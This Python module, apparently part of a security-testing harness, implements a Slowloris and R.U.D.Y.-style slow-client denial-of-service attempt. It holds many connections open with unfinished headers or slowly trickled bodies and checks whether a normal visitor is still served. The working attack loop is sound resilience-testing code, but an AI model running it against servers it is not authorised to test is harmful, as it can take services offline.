"""Connections that send a byte now and then: half with an unfinished head, half with a body.

"Slowloris" (2009) and "R.U.D.Y." (2010) brought servers down from one machine that way.
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import AsyncIterator

from harness.hostile.attempt import REFUSED, Attempt
from harness.hostile.crowd import crowded, request_of
from harness.hostile.raid import Raid
from harness.target.wire import Request

_LONG = 64_000  # bytes that the slow body says it has


def beginning(request: Request, *, of_body: bool) -> bytes:
    """What a slow client sends at once: all of the head but its end, or also that."""
    head = request.head + f"Content-Length: {_LONG}\r\nConnection: keep-alive\r\n".encode()
    return head + b"\r\n" if of_body else head + b"X-Slow: "


async def tries(raid: Raid) -> AsyncIterator[Attempt]:
    """Hold connections open, and see whether an honest visitor gets through."""
    how = raid.model.slow_clients
    assert how is not None
    request = await request_of(raid, how.of)
    if request is None:
        yield raid.cannot_tell(f"{how.of} sends no body")
        return

    count, most_opened = min(how.connections, raid.most_at_once), 0

    async def crowd() -> str:
        nonlocal most_opened
        clients = [
            _trickle(
                raid, beginning(request, of_body=n % 2 == 1), how.bytes_per_second, how.seconds
            )
            for n in range(count)
        ]
        opened = sum(await asyncio.gather(*clients))
        most_opened = max(most_opened, opened)
        return f"{opened} of {count} slow connections for {how.seconds:g} s"

    attempt = await crowded(raid, how, crowd)
    if attempt.outcome == REFUSED and not most_opened:
        attempt = raid.cannot_tell("no slow connection could be opened")
    yield attempt


async def _trickle(raid: Raid, start: bytes, per_second: float, seconds: float) -> bool:
    """One slow client, until its time is over or the app hangs up; whether it was let in."""
    origin = raid.target.origin
    tls: ssl.SSLContext | None = raid.wire.tls() if origin.tls else None
    address = raid.target.addresses.get(origin.host, origin.host)
    name = origin.host if origin.tls else None
    opened = False
    try:
        async with asyncio.timeout(seconds):
            reader, writer = await asyncio.open_connection(
                address, origin.port, ssl=tls, server_hostname=name
            )
            opened = True
            try:
                writer.write(start)
                while not reader.at_eof():
                    await asyncio.sleep(1 / per_second)
                    writer.write(b"x")
                    await writer.drain()
            finally:
                writer.transport.abort()
    except (OSError, TimeoutError):
        pass  # the time was over, or the app hung up: both are what is looked for elsewhere
    return opened
